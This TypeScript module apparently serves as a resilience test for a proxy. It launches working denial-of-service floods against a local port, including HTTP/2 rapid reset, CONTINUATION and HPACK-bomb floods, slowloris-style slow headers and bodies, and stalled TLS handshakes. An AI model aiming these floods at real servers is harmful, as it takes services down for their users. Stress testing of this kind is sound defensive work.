/**
 * A client that means harm, as a process of its own: `deno run … proxy_flooder.ts KIND PORT CA-FILE SECONDS`. It repeats
 * one attack on fresh connections for as long as it is told, and prints how many it began.
 * @module
 */
import { FrameWriter, HpackEncoder } from "@lib/http2/mod.ts";

const host = "web.test";

/** What an attack is given: where to go, and until when (ms, monotonic). */
interface Aim {
  readonly port: number;
  readonly ca: string;
  readonly until: number;
}

/** One connection's worth of it; ends when the proxy has had enough or the time is over. */
type Attack = (aim: Aim) => Promise<void>;

const encoder = new TextEncoder();
const block = (...fields: string[]) => new HpackEncoder().encode(fields).slice();
const request = block(":method", "GET", ":scheme", "https", ":authority", host, ":path", "/");
const upload = block(":method", "POST", ":scheme", "https", ":authority", host, ":path", "/");

const goesOn = ({ until }: Aim) => performance.now() < until;
const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

async function writeAll(conn: Deno.Conn, bytes: Uint8Array): Promise<void> {
  for (let at = 0; at < bytes.length;) at += await conn.write(bytes.subarray(at));
}

/** Reads what comes, so that nothing of it holds the proxy up. */
async function swallow(conn: Deno.Conn): Promise<void> {
  const buffer = new Uint8Array(64 * 1024);
  while (await conn.read(buffer) !== null);
}

function connect({ port }: Aim): Promise<Deno.TcpConn> {
  return Deno.connect({ hostname: "127.0.0.1", port });
}

async function secure(aim: Aim, alpn: string): Promise<Deno.TlsConn> {
  const tls = await Deno.startTls(await connect(aim), { hostname: host, caCerts: [aim.ca], alpnProtocols: [alpn] });
  await tls.handshake();
  return tls;
}

/** A TCP connection that `attack` has to itself. */
function plain(attack: (conn: Deno.Conn, aim: Aim) => Promise<void>): Attack {
  return async (aim) => {
    using conn = await connect(aim);
    await attack(conn, aim);
  };
}

/** The same over TLS, with http/1.1. */
function http1(attack: (conn: Deno.Conn, aim: Aim) => Promise<void>): Attack {
  return async (aim) => {
    using conn = await secure(aim, "http/1.1");
    await attack(conn, aim);
  };
}

/**
 * An HTTP/2 connection on which `frames` are made and sent without end.
 * @param frames adds some, with the next stream's id, and returns the id after
 */
function http2(
  frames: (writer: FrameWriter, streamId: number) => number,
  { window = 65_535, reads = true } = {},
): Attack {
  return async (aim) => {
    using conn = await secure(aim, "h2");
    const writer = new FrameWriter();
    writer.preface();
    // SETTINGS_INITIAL_WINDOW_SIZE: with 0 no body can be answered.
    writer.settings([[4, window]]);
    const reading = reads ? swallow(conn).catch(() => {}) : null;
    try {
      for (let streamId = 1; goesOn(aim) && streamId < 2 ** 30;) {
        for (let turn = 0; turn < 50; turn++) streamId = frames(writer, streamId);
        await writeAll(conn, writer.take());
      }
    } finally {
      conn.close();
      await reading;
    }
  };
}

const longValue = "v".repeat(3500);
/** A large field kept in the table, then referred to as often as a frame can hold. */
const bomb = (() => {
  const hpack = new HpackEncoder();
  const first = hpack.encode([":method", "GET", ":scheme", "https", ":authority", host, ":path", "/", "x", longValue]);
  const bytes = new Uint8Array(16_000);
  bytes.set(first);
  // 62 is the newest entry of the dynamic table (RFC 7541 §6.1): one octet for each 3.5 KiB.
  bytes.fill(0x80 | 62, first.length);
  return bytes;
})();

/** Any frame, whatever the rules say. */
function raw(type: number, flags: number, streamId: number, payload: Uint8Array): Uint8Array {
  const bytes = new Uint8Array(9 + payload.length);
  const view = new DataView(bytes.buffer);
  view.setUint32(0, payload.length << 8 | type);
  bytes[4] = flags;
  view.setUint32(5, streamId);
  bytes.set(payload, 9);
  return bytes;
}

/** As `http2`, with octets of our own making. */
function rawHttp2(chunk: (streamId: number) => Uint8Array): Attack {
  return async (aim) => {
    using conn = await secure(aim, "h2");
    const writer = new FrameWriter();
    writer.preface();
    writer.settings([]);
    await writeAll(conn, writer.take());
    const reading = swallow(conn).catch(() => {});
    try {
      for (let streamId = 1; goesOn(aim); streamId += 2) await writeAll(conn, chunk(streamId));
    } finally {
      conn.close();
      await reading;
    }
  };
}

const none = new Uint8Array();
const repeat = (bytes: Uint8Array, times: number) => {
  const all = new Uint8Array(bytes.length * times);
  for (let turn = 0; turn < times; turn++) all.set(bytes, turn * bytes.length);
  return all;
};

/** Every kind, by name. */
export const attacks: Readonly<Record<string, Attack>> = {
  "TLS handshakes that go no further": http1(() => Promise.resolve()),
  "ClientHello, an octet at a time": plain(async (conn, aim) => {
    const hello = raw(0, 0, 0, none);
    hello.set([22, 3, 1, 2, 0, 1, 0, 1, 252]);
    for (let at = 0; goesOn(aim); at++) {
      await conn.write(hello.subarray(at % 9, at % 9 + 1));
      await pause(50);
    }
  }),
  "ClientHello without end": plain(async (conn) => {
    const record = new Uint8Array(16_389).fill(1);
    record.set([22, 3, 1, 64, 0, 1, 255, 255, 255]);
    for (;;) await writeAll(conn, record);
  }),
  "noise instead of TLS": plain(async (conn) => {
    await writeAll(conn, crypto.getRandomValues(new Uint8Array(32_768)));
    await swallow(conn);
  }),
  "head without end": http1(async (conn) => {
    await writeAll(conn, encoder.encode(`GET / HTTP/1.1\r\nHost: ${host}\r\n`));
    const field = encoder.encode(`X: ${"a".repeat(1000)}\r\n`);
    for (;;) await writeAll(conn, field);
  }),
  "head, an octet at a time": http1(async (conn, aim) => {
    await writeAll(conn, encoder.encode(`GET / HTTP/1.1\r\nHost: ${host}\r\nX: `));
    while (goesOn(aim)) {
      await conn.write(new Uint8Array([97]));
      await pause(50);
    }
  }),
  "body, an octet at a time": http1(async (conn, aim) => {
    await writeAll(conn, encoder.encode(`POST / HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 100000\r\n\r\n`));
    while (goesOn(aim)) {
      await conn.write(new Uint8Array([97]));
      await pause(50);
    }
  }),
  "answers that nobody reads": http1(async (conn, aim) => {
    const large = encoder.encode(`GET /large HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
    await writeAll(conn, repeat(large, 20));
    while (goesOn(aim)) await pause(100);
  }),
  "rapid reset": http2((writer, id) => {
    writer.headers(id, request, true);
    writer.rstStream(id, 8);
    return id + 2;
  }),
  "streams that provoke resets": http2((writer, id) => {
    writer.headers(id, request, true);
    // A zero increment is an error of the stream (RFC 9113 §6.9): the proxy has to reset it.
    writer.windowUpdate(id, 0);
    return id + 2;
  }),
  "requests without windows": http2((writer, id) => {
    writer.headers(id, request, true);
    return id + 2;
  }, { window: 0, reads: false }),
  "CONTINUATION without end": rawHttp2((id) =>
    id === 1 ? raw(1, 0, 1, none) : raw(9, 0, 1, new Uint8Array(1000).fill(0x82))
  ),
  "empty CONTINUATION": rawHttp2((id) => id === 1 ? raw(1, 0, 1, none) : repeat(raw(9, 0, 1, none), 500)),
  "HPACK bombs": rawHttp2((id) => raw(1, 5, id, bomb)),
  "PING": http2((writer, id) => {
    writer.ping(false, new Uint8Array(8));
    return id;
  }),
  "PING that nobody takes the answers of": http2((writer, id) => {
    writer.ping(false, new Uint8Array(8));
    return id;
  }, { reads: false }),
  "SETTINGS": http2((writer, id) => {
    writer.settings([[4, 65_535]]);
    return id;
  }),
  "PRIORITY": rawHttp2(() => repeat(raw(2, 0, 3, new Uint8Array(5)), 500)),
  "WINDOW_UPDATE": http2((writer, id) => {
    writer.windowUpdate(0, 1);
    return id;
  }),
  "empty DATA": rawHttp2((id) => id === 1 ? raw(1, 4, 1, upload) : repeat(raw(0, 0, 1, none), 500)),
  "HEADERS of padding": rawHttp2((id) => {
    const payload = new Uint8Array(1 + request.length + 255);
    payload[0] = 255;
    payload.set(request, 1);
    return raw(1, 0x8 | 0x4 | 0x1, id, payload);
  }),
};

/** Connections at once. */
const lanes = 4;

if (import.meta.main) {
  const [kind = "", port = "", caFile = "", seconds = ""] = Deno.args;
  const attack = attacks[kind];
  if (attack === undefined) throw new Error(`no attack ${kind}`);
  const aim = {
    port: Number(port),
    ca: Deno.readTextFileSync(caFile),
    until: performance.now() + Number(seconds) * 1000,
  };
  let begun = 0;
  await Promise.all(Array.from({ length: lanes }, async () => {
    while (goesOn(aim)) {
      begun++;
      try {
        await Promise.race([attack(aim), pause(Number(seconds) * 1000)]);
      } catch {
        // The proxy ended it, which is what it should do.
      }
      // Nothing that is turned away at once needs to come back at once for the proxy to have work.
      await pause(1);
    }
  }));
  console.log(begun);
  // Connections that still wait for something end with the process.
  Deno.exit(0);
}
